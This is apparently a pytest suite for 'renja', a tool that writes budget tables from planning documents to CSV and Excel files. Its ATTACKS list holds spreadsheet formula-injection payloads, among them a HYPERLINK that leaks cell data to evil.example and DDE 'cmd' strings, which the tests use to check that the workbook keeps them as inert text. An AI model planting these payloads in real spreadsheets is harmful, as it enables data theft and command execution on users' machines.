"""``renja extract`` and ``renja audit`` outputs: only files renja wrote are replaced, a failed write keeps the
previous outputs (one message, exit 3 for a full disk), and the workbook cannot act in Excel."""
from __future__ import annotations

import errno
import gc
import json
import os
import re
import subprocess
import sys
import threading
import warnings
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from renja_lib import RenjaError
from renja_lib.write import outputs, workbook, workdirs
from renja_lib.cli import main
from renja_lib.read.locator import LOCATOR_COLUMNS
from renja_lib.write.outputs import MANIFEST, write_extraction

PROGRAMME = "Program Penempatan Tenaga Kerja"
PROGRAMME_LINE = 1018


def run(capsys, *argv):
    """The command's exit status, stdout and stderr; its messages in English unless ``--lang`` is given."""
    argv = list(argv) if "--lang" in argv else [*argv, "--lang", "en"]
    code = main(argv)
    out, err = capsys.readouterr()
    return code, out, err


def snapshot(folder):
    return {p.name: (p.read_bytes() if p.is_file() else "dir") for p in folder.iterdir()}


def one_line(err: str) -> str:
    assert err.count("\n") == 1 and err.startswith("renja: error: "), err
    assert "Traceback" not in err
    return err


@pytest.fixture()
def extracted(tmp_path, capsys):
    out = tmp_path / "out"
    assert main(["extract", "--out", str(out)]) == 0
    capsys.readouterr()
    return out


# ---------------------------------------------------------------- ownership

def test_manifest_lists_every_file_with_its_checksum(extracted):
    manifest = json.loads((extracted / MANIFEST).read_text())
    assert manifest["tool"] == "renja"
    files = {p.name for p in extracted.iterdir()} - {MANIFEST}
    assert set(manifest["files"]) == files
    for name, entry in manifest["files"].items():
        size, sha = outputs._sha256(extracted / name)
        assert (entry["command"], entry["size"], entry["sha256"]) == ("extract", size, sha)
        assert "previous" not in entry


@pytest.mark.parametrize("name, make", [
    ("problems.csv", lambda p: p.write_text("my,own,problems\n1,2,3\n")),
    ("plan_budget.csv", lambda p: p.write_text("anggaran saya\n")),
    ("tables.xlsx", lambda p: openpyxl.Workbook().save(p)),  # a user's workbook: sheet "Sheet"
    ("tables.xlsx", lambda p: p.write_bytes(b"not a workbook")),
    ("codes.csv", lambda p: p.mkdir()),
    ("evaluation.csv", lambda p: p.symlink_to(p.parent / "elsewhere.csv")),
])
def test_a_users_file_under_our_name_is_refused_before_anything_is_written(tmp_path, capsys, name, make):
    out = tmp_path / "out"
    out.mkdir()
    (out / "elsewhere.csv").write_text("keep me\n")
    make(out / name)
    before = snapshot(out)
    code, _, err = run(capsys, "extract", "--out", str(out))
    assert code == 2
    assert str(out / name) in one_line(err) and "Move or rename" in err and "--out" in err
    assert snapshot(out) == before  # nothing written, nothing removed, no staging folder, no manifest


@pytest.mark.parametrize("name", ["plan_budget.csv", "problems.csv", "tables.xlsx"])
def test_a_file_changed_after_renja_wrote_it_is_refused(extracted, capsys, name):
    with open(extracted / name, "ab") as fh:
        fh.write(b"my note\n")
    before = snapshot(extracted)
    code, _, err = run(capsys, "extract", "--out", str(extracted))
    assert code == 2 and str(extracted / name) in one_line(err) and "changed after renja wrote it" in err
    assert snapshot(extracted) == before


def test_our_files_are_replaced_and_others_left_alone(extracted, capsys):
    (extracted / "notes.txt").write_text("mine\n")
    (extracted / "budget_2024.csv").write_text("a,b\n")
    assert run(capsys, "extract", "--out", str(extracted))[0] == 0
    assert (extracted / "notes.txt").read_text() == "mine\n"
    assert (extracted / "budget_2024.csv").read_text() == "a,b\n"
    assert "notes.txt" not in json.loads((extracted / MANIFEST).read_text())["files"]


def test_a_folder_written_before_manifests_is_recognised(extracted, capsys):
    (extracted / MANIFEST).unlink()
    (extracted / outputs.DOCUMENT_TEXT).unlink()  # written only since manifests exist
    (extracted / "notes.txt").write_text("mine\n")
    assert run(capsys, "extract", "--out", str(extracted))[0] == 0
    assert (extracted / MANIFEST).exists() and (extracted / "notes.txt").exists()


def test_a_folder_written_by_the_version_before_manifests_and_locators_is_recognised(extracted, capsys):
    """Every CSV as renja 0.1.0 wrote it (its header, measured on that version) is still renja's to replace."""
    (extracted / MANIFEST).unlink()
    (extracted / outputs.DOCUMENT_TEXT).unlink()  # written only since manifests exist
    for name, header in outputs.LEGACY_HEADERS.items():
        (extracted / name).write_text(header + "\n")
    assert run(capsys, "extract", "--out", str(extracted))[0] == 0
    assert run(capsys, "audit", "--out", str(extracted))[0] == 0
    assert (extracted / "problems.csv").read_text().startswith("file,line,table,column,raw,message,source_kind")
    assert set(outputs.LEGACY_HEADERS) <= set(json.loads((extracted / MANIFEST).read_text())["files"])


@pytest.mark.parametrize("name, content", [
    ("problems.csv", ",".join(["file", "line", "table", "column", "raw", "message", *LOCATOR_COLUMNS, "extra"])
     + "\n"),  # one column more than ours
    ("problems.csv", "file;line;table;column;raw;message\n"),  # a user's own export
    ("stated_totals.csv", ""),
])
def test_without_manifest_a_file_whose_header_is_not_ours_is_refused(extracted, capsys, name, content):
    (extracted / MANIFEST).unlink()
    (extracted / name).write_text(content)
    before = snapshot(extracted)
    code, _, err = run(capsys, "extract", "--out", str(extracted))
    assert code == 2 and str(extracted / name) in one_line(err) and "not written by renja" in err
    assert snapshot(extracted) == before


def test_without_manifest_a_workbook_with_other_sheets_is_refused(extracted, capsys):
    (extracted / MANIFEST).unlink()
    wb = openpyxl.load_workbook(extracted / "tables.xlsx")
    wb.create_sheet("Catatan saya")
    wb.save(extracted / "tables.xlsx")
    code, _, err = run(capsys, "extract", "--out", str(extracted))
    assert code == 2 and "tables.xlsx" in one_line(err)


def test_a_stale_output_is_removed_only_when_it_is_ours(extracted, capsys, doc_copy, raw_text):
    lines = raw_text.split("\n")
    without_24 = doc_copy(text="\n".join(lines[:lines.index("Tabel 2.4")] + lines[lines.index("BAB III"):]))
    (extracted / "proposals.csv").write_text("usulan saya\n")  # the user's file now holds the name
    code, _, err = run(capsys, "extract", str(without_24), "--out", str(extracted))
    assert code == 2 and "proposals.csv" in one_line(err)
    assert (extracted / "proposals.csv").read_text() == "usulan saya\n"


def test_extract_and_audit_share_the_folder(extracted, capsys):
    assert run(capsys, "audit", "--out", str(extracted))[0] == 0
    assert run(capsys, "extract", "--out", str(extracted))[0] == 0
    files = json.loads((extracted / MANIFEST).read_text())["files"]
    assert files["findings.csv"]["command"] == "audit" and files["tables.xlsx"]["command"] == "extract"
    assert (extracted / "findings.csv").exists()
    (extracted / "findings.csv").write_text("temuan saya\n")
    code, _, err = run(capsys, "audit", "--out", str(extracted))
    assert code == 2 and "findings.csv" in one_line(err)
    assert (extracted / "findings.csv").read_text() == "temuan saya\n"


def test_findings_written_before_manifests_are_recognised(extracted, capsys):
    assert run(capsys, "audit", "--out", str(extracted))[0] == 0
    (extracted / MANIFEST).unlink()
    assert run(capsys, "audit", "--out", str(extracted))[0] == 0


@pytest.mark.parametrize("content", ["{not json", "[]", '{"tool": "other", "files": {}}', '{"tool": "renja"}'])
def test_a_manifest_that_is_not_ours_is_refused(extracted, capsys, content):
    (extracted / MANIFEST).write_text(content)
    before = snapshot(extracted)
    code, _, err = run(capsys, "extract", "--out", str(extracted))
    assert code == 2 and MANIFEST in one_line(err)
    assert snapshot(extracted) == before


def test_a_run_killed_between_moves_leaves_a_folder_the_next_run_recognises(extracted, doc, monkeypatch, capsys):
    real_replace = os.replace
    calls = []

    def replace(src, dst):
        calls.append(dst)
        if len(calls) == 3:  # the pending manifest and one file moved, then the machine stops
            raise KeyboardInterrupt
        return real_replace(src, dst)

    monkeypatch.setattr(outputs.os, "replace", replace)
    with pytest.raises(KeyboardInterrupt):
        write_extraction(doc, extracted)
    monkeypatch.setattr(outputs.os, "replace", real_replace)
    assert run(capsys, "extract", "--out", str(extracted))[0] == 0
    entries = json.loads((extracted / MANIFEST).read_text())["files"].values()
    assert all("previous" not in e for e in entries)


# ---------------------------------------------------------------- --out

def test_empty_out_is_a_usage_error(capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for command in ("extract", "audit"):
        code, _, err = run(capsys, command, "--out", "")
        assert code == 2 and "--out ''" in one_line(err)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("command", ["extract", "audit"])
def test_out_that_is_a_file_or_under_a_file(tmp_path, capsys, command):
    f = tmp_path / "file.txt"
    f.write_text("keep\n")
    code, _, err = run(capsys, command, "--out", str(f))
    assert code == 2 and str(f) in one_line(err) and "is a file" in err
    code, _, err = run(capsys, command, "--out", str(f / "sub"))
    assert code == 2 and str(f / "sub") in one_line(err) and "is a file" in err
    assert f.read_text() == "keep\n"


def test_out_that_is_not_writable(tmp_path, capsys, monkeypatch):
    real_access = os.access
    monkeypatch.setattr(outputs.os, "access", lambda p, mode: False if str(p) == str(tmp_path / "ro") else
                        real_access(p, mode))
    (tmp_path / "ro").mkdir()
    code, _, err = run(capsys, "extract", "--out", str(tmp_path / "ro"))
    assert code == 3 and "permission denied" in one_line(err) and str(tmp_path / "ro") in err


def test_out_whose_name_is_too_long(tmp_path, capsys):
    code, _, err = run(capsys, "extract", "--out", str(tmp_path / ("x" * 300)))
    assert code == 2 and "too long" in one_line(err)


# ---------------------------------------------------------------- disk full, permission denied

def _fail_midway(monkeypatch, target, attr, err: int, after: int):
    real = getattr(target, attr)
    calls = []

    def wrapper(*a, **kw):
        calls.append(1)
        if len(calls) > after:
            raise OSError(err, os.strerror(err))
        return real(*a, **kw)

    monkeypatch.setattr(target, attr, wrapper)


@pytest.mark.parametrize("where", ["csv", "workbook"])
@pytest.mark.parametrize("err, code, words", [(errno.ENOSPC, 3, "the disk is full"),
                                              (errno.EACCES, 3, "permission denied"),
                                              (errno.EIO, 3, "input/output error")])
def test_extract_failing_to_write_keeps_the_previous_outputs(extracted, capsys, monkeypatch, where, err, code,
                                                             words):
    before = snapshot(extracted)
    if where == "csv":
        _fail_midway(monkeypatch, pd.DataFrame, "to_csv", err, after=3)
    else:
        _fail_midway(monkeypatch, openpyxl.Workbook, "save", err, after=0)
    unraisable = []
    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)
    got, out, stderr = run(capsys, "extract", "--out", str(extracted))
    gc.collect()
    assert unraisable == []  # no half-written workbook printing an ignored exception later
    assert got == code
    assert words in one_line(stderr) and str(extracted) in stderr and "left as they were" in stderr
    assert snapshot(extracted) == before


def test_audit_disk_full_keeps_the_previous_findings(extracted, capsys, monkeypatch):
    assert run(capsys, "audit", "--out", str(extracted))[0] == 0
    before = snapshot(extracted)
    _fail_midway(monkeypatch, pd.DataFrame, "to_csv", errno.ENOSPC, after=0)
    code, _, err = run(capsys, "audit", "--out", str(extracted))
    assert code == 3 and "findings.csv" in one_line(err) and "the disk is full" in err
    assert snapshot(extracted) == before


def test_disk_full_while_writing_the_manifest_keeps_the_previous_outputs(extracted, capsys, monkeypatch):
    before = snapshot(extracted)
    _fail_midway(monkeypatch, json, "dump", errno.ENOSPC, after=0)
    code, _, err = run(capsys, "extract", "--out", str(extracted))
    assert code == 3 and "the disk is full" in one_line(err)
    assert snapshot(extracted) == before


# ---------------------------------------------------------------- leftovers and concurrent runs

def test_staging_folders_of_dead_runs_are_removed(extracted, capsys):
    # a run killed with SIGKILL leaves its staging folder, whose lock nobody holds any more
    killed = subprocess.run(
        [sys.executable, "-c", "import sys; from pathlib import Path; from renja_lib.write import workdirs; "
         "print(workdirs.OwnedDir(Path(sys.argv[1]), sys.argv[2]).path)", str(extracted), outputs.STAGING_PREFIX],
        capture_output=True, text=True, check=True).stdout.strip()
    stale = Path(killed)
    (stale / "plan_budget.csv").write_text("half\n")
    alive = workdirs.OwnedDir(extracted, outputs.STAGING_PREFIX)  # a run still going: its lock is held
    foreign = extracted / f"{outputs.STAGING_PREFIX}not-ours"  # no lock file: not ours to judge
    foreign.mkdir()
    try:
        assert run(capsys, "extract", "--out", str(extracted))[0] == 0
        assert not stale.exists() and alive.path.exists() and foreign.exists()
    finally:
        alive.remove()


def test_concurrent_runs_take_turns(tmp_path, doc):
    out = tmp_path / "out"
    errors = []

    def one():
        try:
            write_extraction(doc, out)
        except Exception as exc:  # noqa: BLE001
            errors.append(exc)

    threads = [threading.Thread(target=one) for _ in range(3)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    files = json.loads((out / MANIFEST).read_text())["files"]
    for name, entry in files.items():
        assert outputs._sha256(out / name) == (entry["size"], entry["sha256"])
    assert not [p for p in out.iterdir() if p.name.startswith(".renja-staging")]


def test_a_held_lock_is_one_message(extracted, capsys, monkeypatch):
    import fcntl

    monkeypatch.setattr(outputs, "LOCK_TIMEOUT", 0.2)  # the wait extract gives workdirs.folder_lock
    fd = os.open(extracted, os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)
        code, _, err = run(capsys, "extract", "--out", str(extracted))
    finally:
        os.close(fd)
    assert code == 3 and "another renja run" in one_line(err)


# ---------------------------------------------------------------- the workbook cannot act

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "   =1+1",
    "\u00a0=WEBSERVICE(\"http://evil.example\")",
    "\uff1dHYPERLINK(\"http://evil.example\")",
    "|calc",
    "=cmd|'/C notepad'!'A1'",
]


def _cells(path):
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb for row in ws.iter_rows() for c in row]


def _no_formula_anywhere(path):
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", z.read(name)), name
    assert not [c for c in _cells(path) if c.data_type == "f"]


@pytest.mark.parametrize("name", ATTACKS)
def test_a_formula_in_a_programme_name_stays_text(tmp_path, capsys, doc_copy, replace_line, name):
    path = doc_copy(lambda t: replace_line(t, PROGRAMME_LINE, PROGRAMME, name))
    out = tmp_path / "out"
    code, stdout, _ = run(capsys, "extract", str(path), "--out", str(out), "--lang", "en")
    assert code == 0
    csv = pd.read_csv(out / "plan_budget.csv", dtype=str, keep_default_na=False)
    assert name.strip() in set(csv["name"].str.strip())  # the CSV is faithful to the document
    _no_formula_anywhere(out / "tables.xlsx")
    hits = [c for c in _cells(out / "tables.xlsx") if isinstance(c.value, str) and c.value.strip() == name.strip()]
    assert hits
    for c in hits:
        assert c.data_type == "s" and c.quotePrefix
    assert re.search(r"tables\.xlsx: \d+ cells? that Excel would read as a formula .* plan_budget \[name\]",
                     stdout)


def test_numbers_stay_numbers_and_text_stays_as_written(tmp_path):
    frame = pd.DataFrame({
        "amount": pd.array([-5, 12, None], dtype="Int64"),
        "ratio": [-1.5, 0.25, float("nan")],
        "text": pd.array(["-", "- orang", "-12"], dtype="string"),
        "when": pd.to_datetime(["2023-01-31", None, "2024-02-29"]),
        "flag": [True, False, True],
        "big": pd.array([2**63, 123, -(10**20)], dtype="object"),
    })
    rep = workbook.write_workbook(tmp_path / "t.xlsx", {"t": frame})
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["t"]
    rows = list(ws.iter_rows(min_row=2))
    assert [(r[0].value, r[0].data_type) for r in rows] == [(-5, "n"), (12, "n"), (None, "n")]
    assert [r[1].value for r in rows[:2]] == [-1.5, 0.25] and rows[2][1].value is None
    assert [(r[2].value, r[2].data_type, bool(r[2].quotePrefix)) for r in rows] == [
        ("-", "s", True), ("- orang", "s", True), ("-12", "s", True)]
    assert rows[0][3].is_date and rows[0][3].value.year == 2023 and rows[1][3].value is None
    assert [r[4].value for r in rows] == [True, False, True]
    assert [r[5].value for r in rows] == [str(2**63), 123, str(-(10**20))]  # exact, as text
    assert rep.long_numbers == {("t", "big"): 2}
    assert rep.neutralised == {}  # "-" for nil and "- orang" are quoted, not reported


def _unescape(text: str) -> str:
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=60))
def test_any_text_is_written_and_read_back_as_written(tmp_path_factory, text):
    path = tmp_path_factory.mktemp("wb") / "t.xlsx"
    rep = workbook.write_workbook(path, {"t": pd.DataFrame({"c": pd.array([text], dtype="string")})})
    cell = openpyxl.load_workbook(path)["t"]["A2"]
    if text == "":
        return
    assert cell.data_type == "s"
    assert _unescape(cell.value) == text  # what Excel shows is the document's text
    has_control = bool(re.search(r"[\x00-\x08\x0b\x0c\r\x0e-\x1f\ufffe\uffff]", text))
    assert bool(rep.escaped) == (has_control or bool(re.search(r"_x[0-9A-Fa-f]{4}_", text)))


def test_control_characters_are_escaped_and_reported(tmp_path, doc):
    plan = doc.plan_budget.copy()
    plan.loc[0, "name"] = "Program\x0cA\x01B\x1bC\x00D\x1fE"
    rep = workbook.write_workbook(tmp_path / "t.xlsx", {"plan_budget": plan, "codes": doc.codes})
    cell = openpyxl.load_workbook(tmp_path / "t.xlsx")["plan_budget"]["D2"]
    assert cell.value == "Program_x000C_A_x0001_B_x001B_C_x0000_D_x001F_E"
    assert rep.escaped == {("plan_budget", "name"): 1}
    assert "1 cell with control characters written as _xHHHH_: plan_budget [name] 1" in "\n".join(rep.lines(lang="en"))
    assert "1 sel dengan karakter kendali ditulis sebagai _xHHHH_: plan_budget [name] 1" in "\n".join(rep.lines())


def test_a_cell_longer_than_excel_holds_is_cut_with_a_marker(tmp_path, capsys, doc_copy, replace_line):
    long = "Program " + "panjang_x0041_ " * 3000  # 45,008 characters (the reader drops the last space)
    path = doc_copy(lambda t: replace_line(t, PROGRAMME_LINE, PROGRAMME, long))
    out = tmp_path / "out"
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        code, stdout, stderr = run(capsys, "extract", str(path), "--out", str(out), "--lang", "en")
    assert code == 0 and "too long" not in stderr
    cells = [c.value for c in _cells(out / "tables.xlsx") if isinstance(c.value, str) and c.value.startswith(
        "Program panjang")]
    assert cells
    for value in cells:
        assert len(value) <= workbook.MAX_CELL_CHARS
        assert re.search(rf"… \[cut: {len(long.strip()):,} characters in all; the whole text is in \w+\.csv\]$",
                         value)
        kept = value.split(" … [cut")[0]
        assert len(kept) > 32_000 and long.startswith(_unescape(kept))  # cut between characters as Excel reads
    assert "longer than Excel's 32,767 characters, cut with a marker" in stdout
    csv = pd.read_csv(out / "plan_budget.csv", dtype=str, keep_default_na=False)
    assert long.strip() in set(csv["name"].str.strip())  # the CSV keeps the whole text


def test_a_table_longer_than_a_sheet_goes_on_in_further_sheets(tmp_path, capsys, monkeypatch):
    monkeypatch.setattr(workbook, "MAX_ROWS", 100)
    out = tmp_path / "out"
    code, stdout, _ = run(capsys, "extract", "--out", str(out), "--lang", "en")
    assert code == 0
    sheets = pd.read_excel(out / "tables.xlsx", sheet_name=None)
    parts = [n for n in sheets if n == "evaluation" or n.startswith("evaluation (")]
    assert parts == ["evaluation"] + [f"evaluation ({i})" for i in range(2, 14)]  # 1200 rows, 99 a sheet
    assert all(len(sheets[p]) == 99 for p in parts[:-1])
    together = pd.concat([sheets[p] for p in parts], ignore_index=True)
    csv = pd.read_csv(out / "evaluation.csv")
    assert list(together.columns) == list(csv.columns) and len(together) == len(csv) == 1200
    assert together["source_line"].tolist() == csv["source_line"].tolist()
    assert "evaluation has more rows than one Excel sheet holds (100)" in stdout and "'evaluation (13)'" in stdout


def test_exactly_a_full_sheet_needs_no_second_one(tmp_path, monkeypatch):
    monkeypatch.setattr(workbook, "MAX_ROWS", 11)
    rep = workbook.write_workbook(tmp_path / "t.xlsx", {"t": pd.DataFrame({"a": range(10)}),
                                                     "u": pd.DataFrame({"a": range(11)})})
    assert rep.sheets == {"t": ["t"], "u": ["u", "u (2)"]}
    wb = openpyxl.load_workbook(tmp_path / "t.xlsx")
    assert [ws.max_row for ws in wb] == [11, 11, 2]


def test_a_table_wider_than_a_sheet_is_one_message(tmp_path, monkeypatch):
    monkeypatch.setattr(workbook, "MAX_COLUMNS", 3)
    with pytest.raises(RenjaError, match="'t' has 4 columns"):
        workbook.write_workbook(tmp_path / "t.xlsx", {"t": pd.DataFrame({c: [1] for c in "abcd"})})


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=8, unique=True), st.integers(0, 3))
def test_sheet_names_are_valid_and_unique(tables, extra):
    names = workbook.sheet_names(tables, {tables[0]: extra})
    flat = [n for t in tables for n in names[t]]
    assert len(names[tables[0]]) == 1 + extra
    assert len({n.casefold() for n in flat}) == len(flat)
    for n in flat:
        assert 0 < len(n) <= 31 and not re.search(r"[\[\]:*?/\\\x00-\x1f]", n)
        assert not n.startswith("'") and not n.endswith("'") and n.casefold() != "history"


def test_sheet_names_that_excel_refuses_are_made_valid(tmp_path):
    tables = {"a/b": pd.DataFrame({"x": [1]}), "A:B": pd.DataFrame({"x": [2]}), "History": pd.DataFrame(),
              "x" * 40: pd.DataFrame({"x": [3]}), "'q'": pd.DataFrame({"x": [4]})}
    rep = workbook.write_workbook(tmp_path / "t.xlsx", tables)
    wb = openpyxl.load_workbook(tmp_path / "t.xlsx")
    assert wb.sheetnames == ["a_b", "A_B (2)", "History_", "x" * 31, "q"]
    assert any("table 'a/b' is in sheet 'a_b'" in line for line in rep.lines(lang="en"))


@pytest.mark.parametrize("shift", range(8))
def test_a_cut_never_splits_an_escape_sequence(shift):
    text = "a" * shift + "\x0c_x0041_" * 8000
    stored, escaped, _, truncated = workbook.excel_text(text)
    assert escaped and truncated and len(stored) <= workbook.MAX_CELL_CHARS
    kept = stored.split(" … [cut")[0]
    assert text.startswith(_unescape(kept)) and len(kept) > workbook.MAX_CELL_CHARS - 100
